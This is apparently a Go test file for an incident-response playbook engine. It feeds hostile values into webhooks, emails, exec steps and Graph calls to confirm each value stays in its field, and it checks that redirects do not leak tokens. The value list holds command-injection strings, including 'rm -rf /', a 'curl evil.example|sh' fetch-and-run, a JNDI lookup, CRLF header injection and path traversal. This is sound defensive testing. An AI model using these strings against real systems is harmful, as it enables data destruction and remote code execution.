package playbook_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/debrief-dev/debrief"
	"github.com/debrief-dev/debrief/playbook"
)

// TestHostileValues puts shell metacharacters, CRLF, template syntax and
// URLs into alert titles and entity names, and checks that each value stays
// inside the field it was substituted into.
func TestHostileValues(t *testing.T) {
	hostile := []string{
		"x; rm -rf / #", "$(curl evil.example|sh)", "`id`", "a\r\nX-Injected: 1", "line\nBcc: victim@example.com",
		"{{ incident.id }}", "${jndi:ldap://evil.example/a}", "https://evil.example/p?q=1", "../../admin",
		"@evil.example", "-rf", "a%2F..%2F", "#frag", "?x=y&sig=z", "\x00nul",
	}
	f := newFake(t)
	pb := steps(t, `  - id: hook
    kind: webhook
    for_each: user
    url: "https://hooks.example.com/in/{{ entity.name }}?t={{ incident.title }}"
    headers: {X-Title: "{{ incident.title }}"}
    body: {title: "{{ incident.title }}", who: "{{ entity.name }}", list: ["{{ entity.id }}"]}
  - id: mail
    kind: email
    for_each: user
    to: ["soc@example.com"]
    subject: "Incident {{ incident.title }} {{ entity.name }}"
    text: "{{ incident.title }}"
  - id: run
    kind: exec
    for_each: user
    argv: [/bin/echo, "--title={{ incident.title }}", "--user={{ entity.name }}"]
  - id: isolate
    kind: graph
    action: disable_user
    for_each: user
`)
	for _, v := range hostile {
		t.Run(strings.ToValidUTF8(v, "?"), func(t *testing.T) {
			in := incident()
			in.Title = v
			in.Alerts[0].Entities[1].Name = v
			in.Alerts[0].Entities[1].ID = v
			rg := newRig(t, f)
			plan, err := rg.Plan(context.Background(), pb, in, "run-1")
			if strings.ContainsRune(v, 0) {
				// A NUL cannot pass through an argument vector: the plan is refused.
				if err == nil || !strings.Contains(err.Error(), "NUL") {
					t.Fatalf("want the exec step refused, got %v", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range plan {
				checkStep(t, s, v)
			}
		})
	}
}

func checkStep(t *testing.T, s playbook.Step, v string) {
	t.Helper()
	switch s.Kind {
	case playbook.KindWebhook:
		u, err := url.Parse(s.Request.URL)
		if err != nil || u.Host != "hooks.example.com" || u.Scheme != "https" {
			t.Fatalf("URL %q escaped its host", s.Request.URL)
		}
		seg := strings.TrimPrefix(u.EscapedPath(), "/in/")
		if strings.Contains(seg, "/") {
			t.Errorf("entity name added path segments: %q", u.EscapedPath())
		}
		if dec, _ := url.PathUnescape(seg); dec != v {
			t.Errorf("path segment %q, want %q", dec, v)
		}
		if q := u.Query(); q.Get("t") != v || len(q) != 1 || u.Fragment != "" {
			t.Errorf("query %v fragment %q, want only t=%q", q, u.Fragment, v)
		}
		if h := s.Request.Header["X-Title"]; strings.ContainsAny(h, "\r\n\x00") {
			t.Errorf("header value %q carries control characters", h)
		}
		var body struct {
			Title string   `json:"title"`
			Who   string   `json:"who"`
			List  []string `json:"list"`
		}
		if err := json.Unmarshal(s.Request.Body, &body); err != nil || body.Title != v || body.Who != v || len(body.List) != 1 || body.List[0] != v {
			t.Errorf("body %s does not hold the value verbatim (%v)", s.Request.Body, err)
		}
	case playbook.KindEmail:
		if strings.ContainsAny(s.Mail.Subject, "\r\n\x00") || len(s.Mail.To) != 1 || s.Mail.To[0] != "soc@example.com" {
			t.Errorf("mail %+v", s.Mail)
		}
	case playbook.KindExec:
		if len(s.Argv) != 3 || s.Argv[0] != "/bin/echo" || s.Argv[1] != "--title="+v || s.Argv[2] != "--user="+v {
			t.Errorf("argv %q", s.Argv)
		}
	case playbook.KindGraph:
		u, _ := url.Parse(s.Request.URL)
		rest, ok := strings.CutPrefix(u.EscapedPath(), "/v1.0/users/")
		if !ok || strings.Contains(rest, "/") || u.RawQuery != "" || u.Fragment != "" {
			t.Errorf("graph URL %q: the user id left its path segment", s.Request.URL)
		}
	}
}

// TestHostileValuesLive runs the exec step for real: the program sees each
// value as one argument.
func TestHostileValuesLive(t *testing.T) {
	f := newFake(t)
	rg := newRig(t, f)
	pb := steps(t, `  - {id: run, kind: exec, argv: [/bin/echo, "--title={{ incident.title }}"]}
`)
	in := incident()
	in.Title = "x; touch /tmp/pwned $(id) `id` \r\n"
	run, err := rg.Run(context.Background(), pb, in, true)
	if err != nil || run.Status != debrief.RunSucceeded {
		t.Fatalf("%v %v", run, err)
	}
	if got := run.Steps[0].Result; got != "--title=x; touch /tmp/pwned $(id) `id`" {
		t.Errorf("echo printed %q", got)
	}
}

func TestExecOffByDefault(t *testing.T) {
	f := newFake(t)
	rg := newRig(t, f)
	rg.Config.Exec = playbook.ExecConfig{}
	pb := steps(t, "  - {id: run, kind: exec, argv: [/bin/echo, hi]}\n")
	run, _ := rg.Run(context.Background(), pb, incident(), true)
	if run.Status != debrief.RunFailed || !strings.Contains(run.Steps[0].Error, "not enabled") {
		t.Errorf("exec ran without being enabled: %+v", run.Steps[0])
	}
}

// TestRedirectsStayInside: a webhook does not follow a redirect to a host
// outside webhook_hosts, nor a Graph or Defender call one to another host
// (it would take the bearer token along); a redirect within stays allowed.
func TestRedirectsStayInside(t *testing.T) {
	var stolen atomic.Int32
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		elsewhere := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1) + "/stolen"
		switch r.URL.Path {
		case "/token":
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"access_token":"tok","token_type":"Bearer","expires_in":3600}`)
		case "/hook", "/api/machines/dev-1/isolate":
			http.Redirect(w, r, elsewhere, http.StatusTemporaryRedirect)
		case "/hop":
			http.Redirect(w, r, "/landed", http.StatusTemporaryRedirect)
		case "/stolen":
			stolen.Add(1)
		default:
			w.WriteHeader(http.StatusAccepted)
		}
	}))
	defer srv.Close()
	tests := []struct {
		name, step string
		want       debrief.RunStatus
	}{
		{"webhook to another host", "  - {id: s, kind: webhook, url: " + srv.URL + "/hook}\n", debrief.RunFailed},
		{"defender to another host", "  - {id: s, kind: graph, action: isolate_device, for_each: device}\n", debrief.RunFailed},
		{"within the host", "  - {id: s, kind: webhook, url: " + srv.URL + "/hop}\n", debrief.RunSucceeded},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rg := newRig(t, &fake{srv: srv})
			run, err := rg.Run(context.Background(), steps(t, tc.step), incident(), true)
			if err != nil {
				t.Fatal(err)
			}
			st := run.Steps[0]
			if st.Status != tc.want {
				t.Fatalf("step %s (%s), want %s", st.Status, st.Error, tc.want)
			}
			if tc.want == debrief.RunFailed && (!strings.Contains(st.Error, "redirect refused") || st.Attempts != 1) {
				t.Errorf("error %q after %d attempts; want the redirect refused, not retried", st.Error, st.Attempts)
			}
		})
	}
	if n := stolen.Load(); n != 0 {
		t.Errorf("%d requests reached the other host", n)
	}
}
